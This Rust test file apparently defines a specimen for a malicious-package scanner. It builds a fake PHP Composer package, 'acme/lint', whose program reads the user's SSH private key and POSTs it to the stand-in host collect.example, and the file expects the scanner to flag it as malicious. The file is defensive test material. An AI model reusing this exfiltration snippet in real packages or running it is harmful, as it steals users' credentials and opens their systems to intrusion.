//! A PHP package whose program sends an SSH key.
//!
//! Must be found: programs are run.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const PROGRAM: &str = r"#!/usr/bin/env php
<?php
$secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
$options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
@file_get_contents('http://collect.example/run', false, stream_context_create($options));
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/lint", "0.8.0")
        .field("bin", json!(["bin/lint"]))
        .file("bin/lint", PROGRAM);
    package
        .specimen(
            "composer-program",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("when it is used")
}
